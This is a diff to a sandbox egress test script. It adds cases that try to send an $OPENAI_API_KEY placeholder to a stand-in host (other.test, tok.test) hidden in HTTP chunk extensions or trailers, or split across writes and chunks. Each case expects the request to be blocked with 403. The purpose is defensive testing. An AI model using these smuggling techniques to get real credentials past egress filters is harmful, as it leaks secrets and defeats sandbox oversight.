@@ -235,6 +235,8 @@ PY
 #   client.py split PORT cl|chunked  POST to http://other.test:PORT a body
 #   holding $OPENAI_API_KEY, cut before its last character into two writes
 #   (cl: Content-Length) or two chunks (chunked); prints the status
+#   client.py split PORT ext|trailer  the same with the placeholder whole in
+#   a chunk extension or a trailer field (the data is "hello")
 WS=$TMP/ws
 mkdir -p "$WS"
 cat > "$WS/client.py" <<'PY2'
@@ -249,6 +251,10 @@ if sys.argv[1] == "split":
         s.sendall(head + b"Content-Length: %d\r\n\r\n" % (len(a) + len(b)) + a)
         time.sleep(0.3)
         s.sendall(b)
+    elif sys.argv[3] == "ext":
+        s.sendall(head + b"Transfer-Encoding: chunked\r\n\r\n5;k=" + ph + b"\r\nhello\r\n0\r\n\r\n")
+    elif sys.argv[3] == "trailer":
+        s.sendall(head + b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\nX-Note: " + ph + b"\r\n\r\n")
     else:
         s.sendall(head + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n" % (len(a), a))
         time.sleep(0.3)
@@ -684,11 +690,17 @@ out=$(sb "${M[@]}" --workspace "$WS:ro" -- sh -c "
 	echo ph \$OPENAI_API_KEY
 	echo cl \$(python3 /workspace/client.py split $H cl)
 	echo chunked \$(python3 /workspace/client.py split $H chunked)
+	echo ext \$(python3 /workspace/client.py split $H ext)
+	echo trailer \$(python3 /workspace/client.py split $H trailer)
 	echo tunnel-chunked \$(python3 /workspace/client.py tok.test:$S \\
 		'POST /x?t=x-crosschunk HTTP/1.1|Host: tok.test|Transfer-Encoding: chunked|Connection: close||14|k={OPENAI_API_KEY[:18]}|22|{OPENAI_API_KEY[18:]}|0||')" 2>&1)
 PH8=$(fld ph "$out")
 expect "exfil: a placeholder cut in two writes of a plain HTTP body: 403" "$(fld cl "$out")" 403
 expect "exfil: ... cut in two chunks of a plain HTTP body: 403" "$(fld chunked "$out")" 403
+expect "exfil: ... in a chunk extension of a plain HTTP body: 403" "$(fld ext "$out")" 403
+expect "exfil: ... in a trailer of a plain HTTP body: 403" "$(fld trailer "$out")" 403
+expect "exfil: extension and trailer: the plain HTTP server got neither request" \
+	"$(SEEN_LOG=$HLOG seen x-split-ext True) $(SEEN_LOG=$HLOG seen x-split-trailer True)" "none none"
 expect "exfil: ... cut in two chunks of a body to another credentialed host: 403" "$(fld tunnel-chunked "$out")" 403
 expect_match "exfil: two chunks: the plain HTTP server got none of it" \
 	"$(SEEN_LOG=$HLOG seen x-split-chunked "'${PH8:0:40}' in r['body']")" '^(none|False)$'
